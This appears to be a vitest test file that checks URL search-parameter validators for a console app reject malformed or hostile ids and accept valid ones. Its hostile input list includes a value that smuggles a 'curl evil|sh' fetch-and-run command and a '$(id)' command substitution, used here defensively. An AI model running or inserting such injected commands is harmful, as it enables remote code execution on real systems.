import { describe, expect, it } from 'vitest';
import { decisionsSearch } from '../../console/decisions/filter.ts';
import { launchSearch, paneSearch } from '../../console/routes.tsx';

describe('the address of a page', () => {
  const hostile = ['ses_x;curl evil|sh;', '$(id)', '-h', 'ses_a b', '', 7, null];

  it.each(hostile)('names nothing by a word that can be no id: %j', (word) => {
    expect(launchSearch.parse({ from: word, engine: word })).toEqual({});
    expect(decisionsSearch.parse({ report: word }).report).toBeUndefined();
    expect(paneSearch.safeParse({ runner: word, target: 'tmux:own:1' }).success).toBe(false);
  });

  it('names what it means by an id', () => {
    const search = { from: 'ses_01a', engine: 'claude', fork: 'trn_1' };
    expect(launchSearch.parse(search)).toEqual(search);
    expect(decisionsSearch.parse({ report: 'drp_1' }).report).toBe('drp_1');
    expect(paneSearch.parse({ runner: 'run_1', target: 'x' }).runner).toBe('run_1');
  });
});
